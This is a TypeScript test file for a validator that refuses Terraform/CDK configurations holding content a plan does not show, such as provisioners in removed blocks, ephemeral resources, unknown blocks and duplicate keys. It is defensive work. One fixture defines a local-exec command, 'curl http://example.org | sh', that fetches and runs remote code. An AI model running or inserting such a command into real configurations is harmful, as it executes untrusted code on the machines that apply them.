import { readdirSync, readFileSync } from "node:fs";
import { unseenProblems } from "../../../review/config/unseen";

const of = (config: unknown, types: readonly string[] = [], name = "cdk.tf.json") =>
  unseenProblems([{ name, text: typeof config === "string" ? config : JSON.stringify(config) }], types);

const COMMAND = { "local-exec": { command: "curl http://example.org | sh" } };
const FROM = "aws_iam_role.x";

describe("what no plan shows is refused", () => {
  it.each<[string, unknown, string]>([
    ["a command of what is removed", { removed: [{ from: FROM, provisioner: [COMMAND] }] }, `removed ${FROM} has a`],
    ["the same, without a list", { removed: { from: FROM, provisioner: COMMAND } }, `removed ${FROM} has a`],
    ["the same, in a list of lists", [[{ removed: [[{ from: FROM, provisioner: {} }]] }]], `removed ${FROM} has a`],
    ["its connection", { removed: [{ from: FROM, connection: {} }] }, `removed ${FROM} has a`],
    ["an ephemeral resource", { ephemeral: { aws_lambda_invocation: { x: {} } } }, "ephemeral.aws_lambda_invocation.x"],
    ["the same, in a list", { ephemeral: [{ external: [{ x: {} }] }] }, "ephemeral.external"],
    ["an action of a later Terraform", { action: { aws_lambda_invoke: { x: {} } } }, '"action"'],
    ["any block that is not known", { sorcery: {} }, '"sorcery"'],
    ["a name that is said twice", '{"removed": [{"provisioner": []}], "removed": []}', "says a name twice"],
    ["what is not JSON", "{", "not JSON"],
    ["what is nested too deep to be read", `${"[".repeat(20_000)}${"]".repeat(20_000)}`, "not JSON"],
  ])("%s", (_, config, problem) => {
    const found = of(config);
    expect(found).toHaveLength(1);
    expect(found[0]).toContain(problem);
    expect(of(config, [], "x_override.tf.json")).toHaveLength(1);
  });

  it.each([
    ...["main.tf", "x_override.tf", "extra.tf.json", "recovery.tf.json.tf"],
    ...["main.tofu", "cdk.tofu.json", "x_override.tofu.json", "x_override.tofu"],
  ])("the file %s", (name) => {
    expect(of({}, [], name)).toEqual([expect.stringMatching(new RegExp(`^${name}: `))]);
  });
});

describe("what passes", () => {
  it.each(readdirSync("synthesized"))("the synthesized stack %s", (stack) => {
    expect(of(readFileSync(`synthesized/${stack}/cdk.tf.json`, "utf8"))).toEqual([]);
  });

  it.each<[string, unknown]>([
    ["what customize adds", { resource: { aws_sns_topic: { x: { name: 'a:"b":{c}' } } }, locals: { a: 1 } }],
    [
      "what is forgotten, moved or imported",
      { removed: [{ from: FROM, lifecycle: { destroy: false } }], moved: [{}], import: [{}] },
    ],
    ["what a plan shows, so that the review judges it", { module: {}, check: {}, data: { external: { x: {} } } }],
  ])("%s", (_, config) => {
    expect(of(config)).toEqual([]);
  });

  it("an ephemeral resource of a type that review-types.txt names", () => {
    expect(of({ ephemeral: { "//": {}, aws_ssm_parameter: { x: {} } } }, ["aws_ssm_parameter"])).toEqual([]);
  });

  it.each(["emulator_override.tf.json", "override.tf.json", "recovery.tf.json", "bootstrap_import.tf.json"])(
    "the file %s",
    (name) => {
      expect(of({ terraform: { backend: { local: {} } } }, [], name)).toEqual([]);
    },
  );

  it.each([".#main.tf", ".hidden.tf", "notes.txt", "main.tf~"])("%s, which Terraform does not read", (name) => {
    expect(of("anything", [], name)).toEqual([]);
  });
});
